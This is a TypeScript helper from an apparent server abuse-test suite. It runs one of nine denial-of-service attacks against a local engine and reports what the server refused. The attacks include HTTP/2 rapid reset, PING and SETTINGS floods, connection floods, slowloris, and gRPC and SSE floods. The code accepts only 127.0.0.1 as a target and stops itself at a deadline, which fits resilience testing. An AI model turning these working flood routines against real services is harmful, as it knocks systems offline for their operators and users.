/**
 * One attack on an engine, run as its own process by the abuse suite (so its CPU work never stalls
 * the canary measured in the test process), bounded in time and stopping by itself:
 *
 *   node dist/test/helpers/abuse/attack.js <kind> --target 127.0.0.1:<grpc> --http 127.0.0.1:<http> --duration-ms 12000 [--count N] [--concurrency N]
 *
 * Prints one JSON line (AttackSummary) at the end: what the attacker saw (gRPC status codes,
 * GOAWAY codes, connections refused or closed by the server, HTTP status codes) and a one-line
 * `refusal` for the table. Only 127.0.0.1 is accepted as a target. The process exits at
 * duration + 3 s whatever is still pending (process.exit drops every socket).
 */
import { connect as tcpConnect, type Socket } from 'node:net';
import { Agent, request } from 'node:http';
import { parseArgs } from 'node:util';
import { Client, credentials, Metadata, status as grpcStatus, type ServiceError } from '@grpc/grpc-js';
import { doubleField, lenField, varintField } from '../raw-grpc.js';
import { ErrorCodeName, grpcHeaderBlock, headers, openH2, ping, rstStream, settings, type H2Socket } from './h2-frames.js';

export const ATTACK_KINDS = ['ingest-metrics', 'stream-events', 'rapid-reset', 'conn-flood', 'ping-flood', 'settings-flood', 'slowloris', 'readyz-flood', 'sse-flood'] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

export interface AttackSummary {
  kind: AttackKind;
  /** Wall-clock ms the attack ran. */
  ranMs: number;
  /** What the attacker saw refused or cut, in one line for the table ("none" when nothing was). */
  refusal: string;
  counts: Record<string, number | Record<string, number>>;
}

interface Options {
  host: string;
  grpcPort: number;
  httpPort: number;
  durationMs: number;
  count: number;
  concurrency: number;
  endAt: number;
  /** The counts so far, for the summary printed if the attack has not returned by the hard stop. */
  snapshot?: () => AttackSummary['counts'];
}

const CODE_NAMES: Record<number, string> = Object.fromEntries(Object.entries(grpcStatus).map(([k, v]) => [v as number, k]));
const identity = (b: Buffer): Buffer => b;
const bump = (m: Record<string, number>, k: string, n = 1) => (m[k] = (m[k] ?? 0) + n);
const fmt = (m: Record<string, number>) => Object.entries(m).map(([k, v]) => `${k} ${v}`).join(', ');
const left = (o: Options) => o.endAt - Date.now();
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Runs `worker(i)` for i in [0, n) with at most `concurrency` at once, stopping at the deadline. */
async function pool(n: number, concurrency: number, o: Options, worker: (i: number) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(Array.from({ length: Math.min(n, concurrency) }, async () => {
    while (next < n && left(o) > 0) await worker(next++);
  }));
}

function grpcClients(o: Options, n: number): Client[] {
  // A local subchannel pool per client: n connections, not one shared.
  return Array.from({ length: n }, () => new Client(`${o.host}:${o.grpcPort}`, credentials.createInsecure(), { 'grpc.use_local_subchannel_pool': 1, 'grpc.max_send_message_length': -1, 'grpc.max_receive_message_length': -1 }));
}

/** (1) `concurrency` concurrent IngestMetrics calls of `count` metrics each, each repeated as soon as it is answered. */
async function ingestMetrics(o: Options): Promise<AttackSummary['counts']> {
  const metric = (i: number) =>
    Buffer.concat([lenField(1, `abuse_metric_${i % 100}`), doubleField(2, i), lenField(3, 'gauge'), varintField(4, 1_700_000_000_000 + i), lenField(5, Buffer.concat([lenField(1, 'host'), lenField(2, `h${i % 10}`)]))]);
  const batch = Buffer.concat(Array.from({ length: o.count }, (_, i) => lenField(1, metric(i))));
  const clients = grpcClients(o, 4);
  const codes: Record<string, number> = {};
  let metricsAccepted = 0;
  o.snapshot = () => ({ calls: codes, metricsAccepted, callBytes: batch.length });
  await Promise.all(Array.from({ length: o.concurrency }, async (_, w) => {
    while (left(o) > 0) {
      const code = await new Promise<string>((resolve) =>
        clients[w % clients.length]!.makeUnaryRequest('/data_nexus.MetricsService/IngestMetrics', identity, identity, batch, new Metadata(), { deadline: o.endAt }, (err: ServiceError | null) =>
          resolve(err === null ? 'OK' : CODE_NAMES[err.code] ?? String(err.code)),
        ),
      );
      bump(codes, code);
      if (code === 'OK') metricsAccepted += o.count;
      else if (code !== 'DEADLINE_EXCEEDED') await sleep(50);
    }
  }));
  for (const c of clients) c.close();
  return { calls: codes, metricsAccepted, callBytes: batch.length };
}

/** Events one StreamEvents call writes before it ends and waits for its summary. */
const EVENTS_PER_CALL = 1024;

/**
 * (2) `count` concurrent StreamEvents calls, each writing EVENTS_PER_CALL events as fast as flow
 * control lets it, then waiting for its summary; a call that ends is opened again.
 */
async function streamEvents(o: Options): Promise<AttackSummary['counts']> {
  const clients = grpcClients(o, 20);
  const codes: Record<string, number> = {};
  let written = 0;
  let opened = 0;
  let seq = 0;
  const event = () => Buffer.concat([lenField(1, `abuse-${seq++}`), lenField(2, 'click'), varintField(3, 1_700_000_000_000)]);
  const events = Array.from({ length: 64 }, event);
  o.snapshot = () => ({ calls: codes, callsOpened: opened, eventsWritten: written });
  await Promise.all(Array.from({ length: o.count }, async (_, w) => {
    while (left(o) > 0) {
      opened++;
      const code = await new Promise<string>((resolve) => {
        let done = false;
        const call = clients[w % clients.length]!.makeClientStreamRequest('/event.EventService/StreamEvents', identity, identity, new Metadata(), { deadline: o.endAt }, (err: ServiceError | null) => {
          done = true;
          resolve(err === null ? 'OK' : CODE_NAMES[err.code] ?? String(err.code));
        });
        call.on('error', () => {});
        // 64 messages a turn; the next turn once the last of them is handed to the transport (its
        // write callback), so the attacker writes as fast as HTTP/2 flow control lets it instead
        // of queueing without end in its own memory (grpc-js's write() rarely says "wait").
        let callWritten = 0;
        const write = () => {
          if (done) return;
          if (left(o) <= 0 || callWritten >= EVENTS_PER_CALL) return void call.end();
          callWritten += 64;
          for (let k = 0; k < 63; k++) call.write(events[k]!);
          written += 64;
          call.write(events[63]!, () => setImmediate(write));
        };
        write();
      });
      bump(codes, code);
      if (code !== 'OK' && left(o) > 0) await sleep(50);
    }
  }));
  for (const c of clients) c.close();
  return { calls: codes, callsOpened: opened, eventsWritten: written };
}

/** Counters shared by the attacks that hold raw HTTP/2 connections. */
class H2Tally {
  opened = 0;
  closedByServer = 0;
  readonly connectErrors: Record<string, number> = {};
  readonly goaways: Record<string, number> = {};

  async open(o: Options, port = o.grpcPort): Promise<H2Socket | null> {
    try {
      const h = await openH2(o.host, port);
      this.opened++;
      void h.closed.then(() => {
        if (h.reader.goaway !== null) bump(this.goaways, ErrorCodeName[h.reader.goaway] ?? String(h.reader.goaway));
        if (left(o) > 0) this.closedByServer++;
      });
      return h;
    } catch (e) {
      bump(this.connectErrors, (e as NodeJS.ErrnoException).code ?? 'error');
      return null;
    }
  }

  counts(): AttackSummary['counts'] {
    return { connectionsOpened: this.opened, closedByServer: this.closedByServer, connectErrors: this.connectErrors, goaways: this.goaways };
  }
}

/**
 * One connection writing `make()`'s buffer whenever the socket has drained, until the deadline;
 * a connection the server closes is opened again (counted).
 */
async function floodConnection(o: Options, tally: H2Tally, make: (h: H2Socket) => Buffer, sent: { bytes: number }): Promise<void> {
  while (left(o) > 0) {
    const h = await tally.open(o);
    if (h === null) {
      await sleep(100);
      continue;
    }
    let closed = false;
    void h.closed.then(() => (closed = true));
    while (!closed && left(o) > 0) {
      const ok = h.socket.write(make(h));
      if (!ok) await new Promise<void>((r) => {
        const t = setTimeout(r, Math.max(1, left(o)));
        const go = () => { clearTimeout(t); r(); };
        h.socket.once('drain', go);
        h.socket.once('close', go);
      });
      else await new Promise((r) => setImmediate(r));
    }
    if (!closed) h.socket.destroy();
    // What the kernel took, not what was handed to write(): a socket the server closed takes nothing more.
    sent.bytes += h.socket.bytesWritten;
  }
}

/** (3) HTTP/2 rapid reset: HEADERS for Connect then RST_STREAM(CANCEL) at once, on `concurrency` connections. */
async function rapidReset(o: Options): Promise<AttackSummary['counts']> {
  const tally = new H2Tally();
  const sent = { bytes: 0 };
  const pairs = 200;
  const sockets: H2Socket[] = [];
  // What the server answered before resetting (HEADERS: it started the call) or reset itself.
  const answered = () => ({ serverRstStreams: sockets.reduce((a, h) => a + h.reader.rstStreams, 0), serverHeaders: sockets.reduce((a, h) => a + h.reader.headersFrames, 0) });
  o.snapshot = () => ({ ...tally.counts(), bytesSent: sent.bytes, ...answered() });
  await Promise.all(Array.from({ length: o.concurrency }, (_, c) => {
    const block = grpcHeaderBlock('/stratus.v1.DeviceGateway/Connect', `${o.host}:${o.grpcPort}`, { 'x-device-id': `rapid-reset-${c}` });
    const streamIds = new WeakMap<H2Socket, number>();
    return floodConnection(o, tally, (h) => {
      let id = streamIds.get(h);
      if (id === undefined) {
        id = 1;
        sockets.push(h);
      }
      const out: Buffer[] = [];
      for (let k = 0; k < pairs; k++, id += 2) out.push(headers(id, block), rstStream(id));
      streamIds.set(h, id);
      return Buffer.concat(out);
    }, sent);
  }));
  const pairBytes = headers(1, grpcHeaderBlock('/stratus.v1.DeviceGateway/Connect', `${o.host}:${o.grpcPort}`, { 'x-device-id': 'rapid-reset-0' })).length + 13;
  return { ...tally.counts(), streamsReset: Math.floor(sent.bytes / pairBytes), ...answered() };
}

/** (4) Connection flood: up to `count` HTTP/2 connections (preface + SETTINGS) held until the end. */
async function connFlood(o: Options): Promise<AttackSummary['counts']> {
  const tally = new H2Tally();
  const held: H2Socket[] = [];
  let consecutiveErrors = 0;
  const started = Date.now();
  let openMs = 0;
  o.snapshot = () => ({ ...tally.counts(), heldAtEnd: held.filter((h) => !h.socket.destroyed).length });
  await pool(o.count, o.concurrency, o, async () => {
    if (consecutiveErrors > 500) return;
    const h = await tally.open(o);
    if (h === null) consecutiveErrors++;
    else {
      consecutiveErrors = 0;
      held.push(h);
    }
  });
  openMs = Date.now() - started;
  // Hold them: count what the server keeps for the rest of the attack.
  await sleep(Math.max(0, left(o)));
  const heldAtEnd = held.filter((h) => !h.socket.destroyed && h.socket.readyState === 'open').length;
  return { ...tally.counts(), heldAtEnd, openMs, gaveUpAfterErrors: consecutiveErrors > 500 ? 1 : 0 };
}

/**
 * One buffer of control frames written on `concurrency` connections as fast as they drain; what
 * each connection's server acked is counted once it closes.
 */
async function controlFlood(o: Options, buf: Buffer, frameBytes: number, acked: (h: H2Socket) => number, sentKey: string, acksKey: string): Promise<AttackSummary['counts']> {
  const tally = new H2Tally();
  const sent = { bytes: 0 };
  const counted = new WeakSet<H2Socket>();
  let acks = 0;
  o.snapshot = () => ({ ...tally.counts(), bytesSent: sent.bytes });
  await Promise.all(Array.from({ length: o.concurrency }, () =>
    floodConnection(o, tally, (h) => {
      if (!counted.has(h)) {
        counted.add(h);
        void h.closed.then(() => (acks += acked(h)));
      }
      return buf;
    }, sent),
  ));
  return { ...tally.counts(), [sentKey]: Math.floor(sent.bytes / frameBytes), [acksKey]: acks };
}

/** (5) PING flood on `concurrency` connections. */
function pingFlood(o: Options): Promise<AttackSummary['counts']> {
  const buf = Buffer.concat(Array.from({ length: 4096 }, (_, i) => ping(Buffer.from(`${String(i).padStart(8, '0')}`))));
  return controlFlood(o, buf, 17, (h) => h.reader.pingAcks, 'pingsSent', 'pingAcks');
}

/** (6) SETTINGS flood on `concurrency` connections (each SETTINGS obliges the server to ACK). */
function settingsFlood(o: Options): Promise<AttackSummary['counts']> {
  const buf = Buffer.concat(Array.from({ length: 4096 }, () => settings([[0x2 /* ENABLE_PUSH */, 0], [0x3 /* MAX_CONCURRENT_STREAMS */, 100]])));
  return controlFlood(o, buf, 21, (h) => h.reader.settingsAcked, 'settingsSent', 'settingsAcks');
}

/** Plain TCP sockets on the HTTP port, kept at `target` open: one the server closes is replaced. */
class SocketHerd {
  open = 0;
  opened = 0;
  closedByServer = 0;
  readonly connectErrors: Record<string, number> = {};
  readonly statuses: Record<string, number> = {};
  readonly sockets = new Set<Socket>();

  constructor(private readonly o: Options, private readonly onConnect: (s: Socket) => void) {}

  connectOne(): Promise<boolean> {
    return new Promise((resolve) => {
      const s = tcpConnect({ host: this.o.host, port: this.o.httpPort });
      let seen = false;
      s.once('connect', () => {
        this.opened++;
        this.open++;
        this.sockets.add(s);
        this.onConnect(s);
        resolve(true);
      });
      s.on('data', (d: Buffer) => {
        if (seen) return;
        seen = true;
        const m = /^HTTP\/1\.[01] (\d{3})/.exec(d.toString('latin1', 0, 16));
        bump(this.statuses, m === null ? 'other' : m[1]!);
      });
      s.on('error', (e: NodeJS.ErrnoException) => {
        if (!this.sockets.has(s)) {
          bump(this.connectErrors, e.code ?? 'error');
          resolve(false);
        }
      });
      s.once('close', () => {
        if (!this.sockets.delete(s)) return;
        this.open--;
        if (left(this.o) > 0) this.closedByServer++;
      });
    });
  }

  /** Opens until `target` are open, and keeps topping up until the deadline. */
  async hold(target: number, concurrency: number): Promise<void> {
    while (left(this.o) > 0) {
      const missing = target - this.open;
      if (missing > 0) {
        let errors = 0;
        await pool(missing, concurrency, this.o, async () => {
          if (!(await this.connectOne())) errors++;
        });
        if (errors > 0) await sleep(200);
      }
      await sleep(250);
    }
  }

  counts(): Record<string, number | Record<string, number>> {
    return { opened: this.opened, openAtEnd: this.open, closedByServer: this.closedByServer, connectErrors: this.connectErrors, statuses: this.statuses };
  }
}

/** (7) `count` slowloris sockets (one header byte a second) and `count` idle ones on the HTTP port. */
async function slowloris(o: Options): Promise<AttackSummary['counts']> {
  const slow = new SocketHerd(o, (s) => s.write(`GET /readyz HTTP/1.1\r\nHost: ${o.host}\r\nX-Slow: `));
  const idle = new SocketHerd(o, () => {});
  o.snapshot = () => ({ slowloris: slow.counts(), idle: idle.counts() }) as unknown as AttackSummary['counts'];
  const drip = setInterval(() => {
    for (const s of slow.sockets) s.write('a');
  }, 1000);
  await Promise.all([slow.hold(o.count, o.concurrency), idle.hold(o.count, o.concurrency)]);
  clearInterval(drip);
  return { slowloris: slow.counts(), idle: idle.counts() } as unknown as AttackSummary['counts'];
}

/** (8) `count` GET /readyz, `concurrency` at a time (keep-alive). */
async function readyzFlood(o: Options): Promise<AttackSummary['counts']> {
  const agent = new Agent({ keepAlive: true, maxSockets: o.concurrency });
  const statuses: Record<string, number> = {};
  const latencies: number[] = [];
  o.snapshot = () => ({ requests: latencies.length, statuses });
  await pool(o.count, o.concurrency, o, () => new Promise<void>((resolve) => {
    const t0 = Date.now();
    const req = request({ host: o.host, port: o.httpPort, path: '/readyz', agent, timeout: Math.max(1, left(o)) }, (res) => {
      res.resume();
      res.on('end', () => {
        bump(statuses, String(res.statusCode));
        latencies.push(Date.now() - t0);
        resolve();
      });
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (e: NodeJS.ErrnoException) => {
      // A request still waiting at the deadline was cut by the attacker, not refused.
      bump(statuses, left(o) <= 0 ? 'unanswered at the end' : e.code ?? e.message);
      resolve();
    });
    req.end();
  }));
  agent.destroy();
  latencies.sort((a, b) => a - b);
  const q = (p: number) => latencies[Math.min(latencies.length - 1, Math.floor(p * latencies.length))] ?? 0;
  return { requests: latencies.length, statuses, latencyP50Ms: q(0.5), latencyP99Ms: q(0.99) };
}

/** (9) `count` concurrent SSE streams (GET /v1/devices/{id}/events), one device each, held until the end. */
async function sseFlood(o: Options): Promise<AttackSummary['counts']> {
  let i = 0;
  const herd = new SocketHerd(o, (s) => s.write(`GET /v1/devices/sse-flood-${process.pid}-${i++}/events HTTP/1.1\r\nHost: ${o.host}\r\nAccept: text/event-stream\r\n\r\n`));
  o.snapshot = () => herd.counts();
  await herd.hold(o.count, o.concurrency);
  return herd.counts();
}

const ATTACKS: Record<AttackKind, (o: Options) => Promise<AttackSummary['counts']>> = {
  'ingest-metrics': ingestMetrics,
  'stream-events': streamEvents,
  'rapid-reset': rapidReset,
  'conn-flood': connFlood,
  'ping-flood': pingFlood,
  'settings-flood': settingsFlood,
  slowloris,
  'readyz-flood': readyzFlood,
  'sse-flood': sseFlood,
};

/** The one-line refusal for the table, from what the attacker counted. */
export function refusalOf(kind: AttackKind, c: AttackSummary['counts']): string {
  const rec = (k: string) => (c[k] ?? {}) as Record<string, number>;
  const num = (k: string) => (c[k] ?? 0) as number;
  const conn = () => {
    const parts: string[] = [];
    if (Object.keys(rec('goaways')).length > 0) parts.push(`GOAWAY ${fmt(rec('goaways'))}`);
    if (num('closedByServer') > 0) parts.push(`${num('closedByServer')} closed by server`);
    if (Object.keys(rec('connectErrors')).length > 0) parts.push(`connect: ${fmt(rec('connectErrors'))}`);
    return parts;
  };
  switch (kind) {
    case 'ingest-metrics':
    case 'stream-events': {
      const refused = Object.entries(rec('calls')).filter(([k]) => k !== 'OK' && k !== 'DEADLINE_EXCEEDED' && k !== 'CANCELLED');
      return refused.length === 0 ? `none (calls ${fmt(rec('calls'))})` : `${fmt(Object.fromEntries(refused))} (of ${Object.values(rec('calls')).reduce((a, b) => a + b, 0)} calls)`;
    }
    case 'conn-flood': {
      const parts = conn();
      return `${num('heldAtEnd')} of ${num('connectionsOpened')} held${parts.length > 0 ? '; ' + parts.join('; ') : ''}`;
    }
    case 'rapid-reset':
    case 'ping-flood':
    case 'settings-flood': {
      const parts = conn();
      return parts.length === 0 ? 'none' : parts.join('; ');
    }
    case 'slowloris': {
      const s = c['slowloris'] as unknown as Record<string, number | Record<string, number>>;
      const i = c['idle'] as unknown as Record<string, number | Record<string, number>>;
      const one = (name: string, x: Record<string, number | Record<string, number>>) =>
        `${name}: ${x['closedByServer']} closed by server${Object.keys(x['statuses'] as object).length > 0 ? ` (HTTP ${fmt(x['statuses'] as Record<string, number>)})` : ''}${Object.keys(x['connectErrors'] as object).length > 0 ? `, connect ${fmt(x['connectErrors'] as Record<string, number>)}` : ''}`;
      return `${one('slow', s)}; ${one('idle', i)}`;
    }
    case 'readyz-flood':
      return `HTTP ${fmt(rec('statuses'))}; p99 ${num('latencyP99Ms')} ms`;
    case 'sse-flood': {
      const parts = [`HTTP ${fmt(rec('statuses'))}`];
      if (num('closedByServer') > 0) parts.push(`${num('closedByServer')} closed by server`);
      if (Object.keys(rec('connectErrors')).length > 0) parts.push(`connect: ${fmt(rec('connectErrors'))}`);
      return parts.join('; ');
    }
  }
}

async function main(): Promise<void> {
  const { positionals, values } = parseArgs({
    allowPositionals: true,
    options: {
      target: { type: 'string' },
      http: { type: 'string' },
      'duration-ms': { type: 'string', default: '12000' },
      count: { type: 'string' },
      concurrency: { type: 'string' },
    },
  });
  const kind = positionals[0] as AttackKind;
  if (!(ATTACK_KINDS as readonly string[]).includes(kind)) throw new Error(`attack: unknown kind ${JSON.stringify(kind)}; use one of ${ATTACK_KINDS.join(', ')}`);
  const [host, grpcPort] = (values.target ?? '').split(':');
  const httpPort = (values.http ?? '').split(':')[1];
  if (host !== '127.0.0.1') throw new Error(`attack: the target must be 127.0.0.1 (got ${JSON.stringify(values.target)})`);
  const durationMs = Number(values['duration-ms']);
  const defaults: Record<AttackKind, [count: number, concurrency: number]> = {
    'ingest-metrics': [10_000, 100],
    'stream-events': [2000, 0],
    'rapid-reset': [0, 50],
    'conn-flood': [15_000, 200],
    'ping-flood': [0, 4],
    'settings-flood': [0, 4],
    slowloris: [5000, 200],
    'readyz-flood': [2000, 50],
    'sse-flood': [3000, 200],
  };
  const o: Options = {
    host,
    grpcPort: Number(grpcPort),
    httpPort: Number(httpPort),
    durationMs,
    count: values.count === undefined ? defaults[kind][0] : Number(values.count),
    concurrency: values.concurrency === undefined ? defaults[kind][1] : Number(values.concurrency),
    endAt: Date.now() + durationMs,
  };
  const started = Date.now();
  let counts: AttackSummary['counts'] | null = null;
  // The attack stops itself at the deadline; this is the backstop for anything still pending.
  const hard = setTimeout(() => print(), durationMs + 3000);
  function print(): never {
    counts ??= { ...(o.snapshot?.() ?? {}), unfinishedAtHardStop: 1 };
    const summary: AttackSummary = { kind, ranMs: Date.now() - started, refusal: refusalOf(kind, counts), counts };
    process.stdout.write(`${JSON.stringify(summary)}\n`, () => process.exit(0));
    setTimeout(() => process.exit(0), 1000);
    // process.exit is called above; never returns in practice.
    return undefined as never;
  }
  counts = await ATTACKS[kind](o);
  clearTimeout(hard);
  print();
}

if (process.argv[1] !== undefined && import.meta.url.endsWith(process.argv[1].split('/').pop()!)) {
  main().catch((e: unknown) => {
    process.stderr.write(`attack: ${e instanceof Error ? e.stack : String(e)}\n`);
    process.exit(2);
  });
}
